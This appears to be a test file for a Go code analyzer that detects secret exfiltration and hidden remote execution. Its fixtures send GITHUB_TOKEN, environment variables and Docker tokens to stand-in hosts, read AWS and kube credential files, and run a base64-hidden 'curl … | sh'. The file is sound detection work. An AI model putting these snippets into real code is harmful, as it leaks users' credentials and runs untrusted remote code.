import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * The Go analyzer's values (src/analysis/code/go/): literals, constants, concatenation, formatting, paths,
 * the environment, containers and what flows through assignments, loops, parameters and returns.
 */

const go = (body: string, imports = '"bytes"; "fmt"; "net/http"; "os"; "path/filepath"; "strings"') =>
  factsOf('go', `package main\n\nimport (${imports})\n\n${body}\n`);

const sent = async (body: string, imports?: string) => ofKind(await go(body, imports), 'send');

describe('values', () => {
  it('folds literals, constants, + and Sprintf into the URL a request goes to', async () => {
    const [s] = await sent(
      [
        'const host = `collect.example-metrics.net`',
        'func main() {',
        '\tbase := "https://" + host',
        '\tu := fmt.Sprintf("%s/v%d/%s", base, 2, "in\\x67est")',
        '\thttp.Post(u, "text/plain", strings.NewReader(os.Getenv("GITHUB_TOKEN")))',
        '}',
      ].join('\n'),
    );
    expect(s).toMatchObject({
      endpoint: { host: 'collect.example-metrics.net', url: 'https://collect.example-metrics.net/v2/ingest' },
      data: { secret: 'env-secret' },
    });
  });

  it('reads the home folder from os.UserHomeDir and HOME, and joins paths', async () => {
    const r = await go(
      [
        'func main() {',
        '\thome, _ := os.UserHomeDir()',
        '\ta, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))',
        '\tb, _ := os.ReadFile(os.Getenv("HOME") + "/.kube/config")',
        '\tfmt.Println(len(a), len(b))',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'read').map((b) => [b.secret, b.target.text])).toEqual([
      ['cloud-credentials', '~/.aws/credentials'],
      ['kube-config', '~/.kube/config'],
    ]);
  });

  it('carries taints through struct fields, maps filled in a range loop, json.Marshal and returns', async () => {
    const [s] = await sent(
      [
        'type report struct{ Host string; Env map[string]string }',
        'func collect() report {',
        '\tr := report{Env: map[string]string{}}',
        '\tr.Host, _ = os.Hostname()',
        '\tfor _, kv := range os.Environ() {',
        '\t\tk, v, _ := strings.Cut(kv, "=")',
        '\t\tr.Env[k] = v',
        '\t}',
        '\treturn r',
        '}',
        'func main() {',
        '\tbody, _ := json.Marshal(collect())',
        '\thttp.Post("https://inventory.fleet-audit.dev/r", "application/json", bytes.NewBuffer(body))',
        '}',
      ].join('\n'),
      '"bytes"; "encoding/json"; "net/http"; "os"; "strings"',
    );
    expect(s?.data).toMatchObject({ secret: 'env-all', taints: expect.arrayContaining(['system-info']) });
  });

  it('binds a function parameter to each argument it is called with, and an out-parameter to what fills it', async () => {
    const [s] = await sent(
      [
        'type creds struct{ Token string `json:"token"` }',
        'func load(path string) creds {',
        '\tvar c creds',
        '\traw, _ := os.ReadFile(path)',
        '\tjson.Unmarshal(raw, &c)',
        '\treturn c',
        '}',
        'func main() {',
        '\thome, _ := os.UserHomeDir()',
        '\tc := load(filepath.Join(home, ".docker/config.json"))',
        '\thttp.Get("https://mirror-check.example-reg.io/?t=" + c.Token)',
        '}',
      ].join('\n'),
      '"encoding/json"; "net/http"; "os"; "path/filepath"',
    );
    expect(s).toMatchObject({ kind: 'send', data: { secret: 'docker-config' } });
  });

  it('a configuration value from the environment in a URL is no data; a plain GET is a fetch', async () => {
    const r = await go(
      'func main() {\n\thttp.Get(os.Getenv("API_BASE") + "/health")\n\thttp.Get("https://api.example-status.com/v1")\n}',
    );
    expect(ofKind(r, 'send')).toEqual([]);
    expect(ofKind(r, 'fetch')).toHaveLength(2);
  });

  it('decodes a base64 literal, so the command hidden in it is read', async () => {
    const r = await go(
      'func main() {\n\tb, _ := base64.StdEncoding.DecodeString("Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS1jZG4ubmV0L2kuc2ggfCBzaA==")\n\texec.Command("sh", "-c", string(b)).Run()\n}',
      '"encoding/base64"; "os/exec"',
    );
    expect(ofKind(r, 'decode')).toMatchObject([
      { scheme: 'base64', decoded: expect.stringContaining('curl') },
    ]);
    expect(ofKind(r, 'execute')[0]?.code.taints).toContain('decoded');
    expect(r.units.some((u) => u.lang === 'shell')).toBe(true);
  });
});

describe('digests', () => {
  it('a hash of a download is no code: a command given the hash runs nothing downloaded', async () => {
    const r = await go(
      'func main() {\n\tresp, _ := http.Get("https://dl.example-tools.net/t.tgz")\n\tb, _ := io.ReadAll(resp.Body)\n\tsum := sha256.Sum256(b)\n\texec.Command("logger", hex.EncodeToString(sum[:])).Run()\n}',
      '"crypto/sha256"; "encoding/hex"; "io"; "net/http"; "os/exec"',
    );
    expect(ofKind(r, 'execute').filter((e) => e.code.taints.includes('download'))).toEqual([]);
  });
});
